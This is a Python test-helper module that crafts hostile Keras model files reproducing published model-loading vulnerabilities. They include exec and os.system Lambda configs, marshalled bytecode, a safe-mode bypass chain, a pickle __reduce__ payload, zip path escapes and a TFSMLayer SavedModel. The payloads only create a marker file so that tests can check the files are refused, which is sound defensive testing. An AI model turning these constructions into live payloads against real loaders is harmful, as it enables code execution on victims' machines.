"""Hostile and broken model files, made in a test's own folder at test time (none is
committed).

Each attack rebuilds the mechanism of a published Keras model-loading hole, with a payload
that only creates the file `marker(folder)` inside that folder: a test loads the crafted
file and checks that it was refused and that the marker never appeared.

    path = hostile.switch_safe_mode_off(tmp_path)
    with pytest.raises(ValueError):
        readout.load_model(path)
    assert not hostile.marker(tmp_path).exists()

ATTACKS names every crafted file; BROKEN the damaged and foreign ones. The attacks write
their archives by hand (zipfile and json), so making one runs none of its code; only
`savedmodel_layer` builds a TensorFlow SavedModel, and `legacy_h5` and
`foreign_architecture` real tiny Keras models.
"""

import base64
import io
import json
import marshal
import os
import pickle
import zipfile
from pathlib import Path

MARKER = "hostile-code-ran"


def marker(folder):
    """The file every payload creates, inside `folder`: it exists only if code ran."""
    return Path(folder) / MARKER


# ---------------------------------------------------------------------------------------
# Writing a .keras archive by hand
# ---------------------------------------------------------------------------------------


def _empty_weights():
    """The bytes of an HDF5 file with an empty `vars` group: a model without weights."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.create_group("vars")
    return buffer.getvalue()


def write_archive(path, config=None, members=None, weights=True):
    """A .keras zip at `path`: metadata.json, `config` as config.json (left out when
    None), an empty model.weights.h5 (when `weights`), and any extra {name: bytes}."""
    path = Path(path)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(
            "metadata.json",
            json.dumps(
                {"keras_version": "3.10.0", "date_saved": "2025-01-01@00:00:00"}
            ),
        )
        if config is not None:
            archive.writestr("config.json", json.dumps(config))
        if weights:
            archive.writestr("model.weights.h5", _empty_weights())
        for name, data in (members or {}).items():
            archive.writestr(name, data)
    return path


def _input_layer(name="input_layer", shape=(1,)):
    return {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, *shape], "dtype": "float32", "name": name},
        "registered_name": None,
        "name": name,
        "inbound_nodes": [],
    }


def _function(module, name):
    """How a config names a function (a Lambda's `function`): module and name."""
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _called_with(*args, **kwargs):
    """Inbound nodes that call a layer once on plain values, not on a tensor: Keras
    rebuilding the model runs the layer eagerly on them (the published exploits pass the
    first argument as kwargs["inputs"])."""
    return [{"args": list(args), "kwargs": kwargs}]


def _on_input(**kwargs):
    """Inbound nodes that call a layer once on the model's input tensor."""
    tensor = {
        "class_name": "__keras_tensor__",
        "config": {
            "shape": [None, 1],
            "dtype": "float32",
            "keras_history": ["input_layer", 0, 0],
        },
    }
    return [{"args": [tensor], "kwargs": kwargs}]


def _lambda_layer(name, function, arguments=None, inbound_nodes=None):
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": name, "function": function, "arguments": arguments or {}},
        "registered_name": None,
        "build_config": {"input_shape": [None, 1]},
        "name": name,
        "inbound_nodes": inbound_nodes or [],
    }


def _functional(layers, output="input_layer"):
    """A functional model's config: an input layer, then `layers` in the order Keras
    calls them."""
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "trainable": True,
            "layers": [_input_layer(), *layers],
            "input_layers": [["input_layer", 0, 0]],
            "output_layers": [[output, 0, 0]],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "compile_config": {},
    }


def _touch_source(folder):
    """Python that creates the marker: the payload of the code-running attacks."""
    return f"open({str(marker(folder))!r}, 'w').close()"


# ---------------------------------------------------------------------------------------
# The attacks
# ---------------------------------------------------------------------------------------


def builtins_exec(folder):
    """A Lambda whose function is `builtins.exec`, called on Python source (the kind of
    CVE-2025-1550: a config that names any module's function). Refused since Keras 3.9.
    """
    layer = _lambda_layer(
        "exec",
        _function("builtins", "exec"),
        inbound_nodes=_called_with(inputs=_touch_source(folder)),
    )
    return write_archive(Path(folder) / "builtins_exec.keras", _functional([layer]))


def os_system(folder):
    """A Lambda whose function is `os.system`, called on a shell command (CVE-2025-1550's
    kind; the form JFrog describes for Lambda layers that only name a function)."""
    command = "touch " + _shell_quote(marker(folder))
    layer = _lambda_layer(
        "system", _function("os", "system"), inbound_nodes=_called_with(inputs=command)
    )
    return write_archive(Path(folder) / "os_system.keras", _functional([layer]))


def _shell_quote(path):
    return "'" + str(path).replace("'", "'\\''") + "'"


def python_lambda(folder, name="python_lambda.keras"):
    """A Lambda layer holding marshalled Python bytecode (CVE-2024-3660's kind) that
    creates the marker when Keras rebuilds the model. Refused in safe mode by every Keras
    3; it runs with safe_mode=False, which shows the payload itself works."""
    function = eval(
        f"lambda x: ({_touch_source(folder)}, x)[1]"
    )  # noqa: S307 - made here
    code = base64.b64encode(marshal.dumps(function.__code__)).decode("ascii")
    layer = _lambda_layer(
        "lambda",
        {
            "class_name": "__lambda__",
            "config": {"code": code, "defaults": None, "closure": None},
        },
        inbound_nodes=_on_input(mask=None),
    )
    return write_archive(Path(folder) / name, _functional([layer], output="lambda"))


def switch_safe_mode_off(folder):
    """CVE-2025-9906 as published (io-no/CVE-Reports#5, GHSA-36fq-jgmw-4r9c): the first
    Lambda calls Keras' own `set_global_attribute("safe_mode_saving", value=False)`, what
    `keras.config.enable_unsafe_deserialization()` does, so safe mode is off for the rest
    of the load; the second calls `keras.models.load_model(second, safe_mode=False)` on a
    second file holding a bytecode Lambda, which then runs. Keras < 3.11 runs it even
    when the user asked for safe_mode=True."""
    second = python_lambda(folder, name="second.keras")
    switch_off = _lambda_layer(
        "unsafe_on",
        _function("keras.src.backend.common.global_state", "set_global_attribute"),
        arguments={"value": False},
        inbound_nodes=_called_with(inputs="safe_mode_saving"),
    )
    load_second = _lambda_layer(
        "load_second",
        _function("keras.models", "load_model"),
        arguments={"safe_mode": False},
        inbound_nodes=_called_with(inputs=str(second)),
    )
    return write_archive(
        Path(folder) / "switch_safe_mode_off.keras",
        _functional([switch_off, load_second]),
    )


def enable_unsafe_deserialization(folder):
    """CVE-2025-9906 through the public name the advisory gives: the config names
    `keras.config.enable_unsafe_deserialization`, which a Lambda of `keras.ops.cond`
    calls with no arguments (cond(True, true_fn=it, false_fn=it)), then a second Lambda
    loads a second file with safe_mode=False. Keras 3.11+ refuses both names as loading
    APIs."""
    second = python_lambda(folder, name="second.keras")
    enable = _function("keras.config", "enable_unsafe_deserialization")
    switch_off = _lambda_layer(
        "unsafe_on",
        _function("keras.ops", "cond"),
        arguments={"true_fn": enable, "false_fn": enable},
        inbound_nodes=_called_with(inputs=True),
    )
    load_second = _lambda_layer(
        "load_second",
        _function("keras.saving", "load_model"),
        arguments={"safe_mode": False},
        inbound_nodes=_called_with(inputs=str(second)),
    )
    return write_archive(
        Path(folder) / "enable_unsafe_deserialization.keras",
        _functional([switch_off, load_second]),
    )


def get_file_write(folder):
    """CVE-2025-8747 (JFrog, GHSA-c9rc-mg46-23w3): a Lambda whose function is
    `keras.utils.get_file`, called with a file name, an origin and a `cache_dir` of the
    file's choosing, so loading the model writes a file where it says (the published
    exploit overwrites a file in the home folder). Here the origin is a local file:// URL
    (no network) and the target is the marker, outside the `cache` folder Keras would use.
    """
    folder = Path(folder)
    payload = folder / "payload.txt"
    payload.write_text("written by a model file\n")
    layer = _lambda_layer(
        "download",
        _function("keras.utils", "get_file"),
        arguments={
            "origin": payload.resolve().as_uri(),
            "cache_dir": str(folder),
            "cache_subdir": "",
        },
        inbound_nodes=_called_with(inputs=MARKER),
    )
    return write_archive(folder / "get_file_write.keras", _functional([layer]))


def archive_escape(folder):
    """A .keras whose zip members name paths outside the folder it is unpacked into: an
    absolute path and a `../` path, both resolving to the marker (Keras unpacks the
    members when an archive has more than its three files). No Keras tried writes
    outside: Python's zipfile strips such paths (3.10), 3.15 skips the members, and
    3.13.x fails on them; its config is a plain tiny model, so a loader must refuse it
    by its own check of the member names (or as a model of another kind)."""
    target = str(marker(folder).resolve())
    members = {
        "assets/placeholder.txt": b"",
        target: b"escaped\n",  # absolute
        "assets/" + "../" * 64 + target.lstrip("/"): b"escaped\n",  # climbs to /
    }
    identity = {
        "module": "keras.layers",
        "class_name": "Identity",
        "config": {"name": "identity"},
        "registered_name": None,
        "name": "identity",
        "inbound_nodes": _on_input(),
    }
    return write_archive(
        Path(folder) / "archive_escape.keras",
        _functional([identity], output="identity"),
        members=members,
    )


class _TouchOnUnpickle:
    """Pickled, it names `open(marker, "w")`: unpickling it creates the marker."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def pickled_weights(folder):
    """A .keras whose weights are model.weights.npz holding, where the Dense layer's
    weights belong, a pickled object that creates the marker when unpickled (and a
    pickle among the assets). Keras reads .npz weights with NumPy's allow_pickle=False
    and never unpickles assets, so the payload does not run; the load fails."""
    import numpy as np

    buffer = io.BytesIO()
    array = np.empty(
        (), dtype=object
    )  # where Keras looks for the Dense layer's weights
    array[()] = _TouchOnUnpickle(marker(folder))
    np.savez(buffer, **{"layers/dense": array})
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 1},
        "registered_name": None,
        "build_config": {"input_shape": [None, 1]},
        "name": "dense",
        "inbound_nodes": _on_input(),
    }
    # A pickle stream in the archive too: the kind of payload that runs on pickle.load.
    return write_archive(
        Path(folder) / "pickled_weights.keras",
        _functional([dense], output="dense"),
        weights=False,
        members={
            "model.weights.npz": buffer.getvalue(),
            "assets/object.pkl": pickle.dumps(_TouchOnUnpickle(marker(folder))),
        },
    )


def savedmodel_layer(folder):
    """CVE-2026-1462 (GHSA-4f3f-g24h-fr8m): a TFSMLayer, which loads the TensorFlow
    SavedModel its config names, even in safe mode before Keras 3.13.2. The SavedModel
    here is made in `folder`; its `serve` graph writes the marker (tf.io.write_file), and
    the config calls the layer on a plain value so the graph runs during the load."""
    import tensorflow as tf

    folder = Path(folder)
    target = str(marker(folder))

    class Payload(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def serve(self, x):
            tf.io.write_file(target, "written by a SavedModel\n")
            return x

    saved = folder / "savedmodel"
    tf.saved_model.save(Payload(), str(saved))
    layer = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {
            "name": "savedmodel",
            "filepath": str(saved),
            "call_endpoint": "serve",
            "call_training_endpoint": None,
            "trainable": False,
        },
        "registered_name": None,
        "name": "savedmodel",
        "inbound_nodes": _called_with(inputs=[[1.0]]),
    }
    return write_archive(folder / "savedmodel_layer.keras", _functional([layer]))


def legacy_h5(folder):
    """CVE-2025-9905 (io-no/CVE-Reports#7): a legacy HDF5 model, model.h5, holding a
    bytecode Lambda that creates the marker. Keras < 3.11 loads .h5 files without safe
    mode, so the Lambda runs even with safe_mode=True. (Making the file runs the Lambda
    once, when Keras builds the model; the marker that leaves is removed.)"""
    import keras

    function = eval(
        f"lambda x: ({_touch_source(folder)}, x)[1]"
    )  # noqa: S307 - made here
    model = keras.Sequential([keras.Input((1,)), keras.layers.Lambda(function)])
    path = Path(folder) / "model.h5"
    model.save(path)
    marker(folder).unlink(missing_ok=True)
    return path


ATTACKS = {
    "builtins_exec": builtins_exec,
    "os_system": os_system,
    "python_lambda": python_lambda,
    "switch_safe_mode_off": switch_safe_mode_off,
    "enable_unsafe_deserialization": enable_unsafe_deserialization,
    "get_file_write": get_file_write,
    "archive_escape": archive_escape,
    "pickled_weights": pickled_weights,
    "savedmodel_layer": savedmodel_layer,
    "legacy_h5": legacy_h5,
}


# ---------------------------------------------------------------------------------------
# Broken and foreign files
# ---------------------------------------------------------------------------------------


def random_bytes(folder):
    """Random bytes named model.keras."""
    path = Path(folder) / "model.keras"
    path.write_bytes(os.urandom(4096))
    return path


def foreign_architecture(folder, name="foreign.keras"):
    """A valid .keras file of another architecture: a tiny keras.Sequential, no
    `image_size` attribute."""
    import keras

    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])
    path = Path(folder) / name
    model.save(path)
    return path


def truncated(folder, source=None):
    """The first half of a real .keras zip (`source`, or a tiny foreign model)."""
    source = Path(source or foreign_architecture(folder, name="whole.keras"))
    path = Path(folder) / "truncated.keras"
    path.write_bytes(source.read_bytes()[: source.stat().st_size // 2])
    return path


def missing_config(folder, source=None):
    """A real .keras zip (`source`, or a tiny foreign model) without its config.json."""
    source = Path(source or foreign_architecture(folder, name="whole.keras"))
    path = Path(folder) / "no_config.keras"
    with zipfile.ZipFile(source) as whole, zipfile.ZipFile(path, "w") as part:
        for item in whole.infolist():
            if item.filename != "config.json":
                part.writestr(item, whole.read(item))
    return path


BROKEN = {
    "random_bytes": random_bytes,
    "truncated": truncated,
    "missing_config": missing_config,
    "foreign_architecture": foreign_architecture,
}
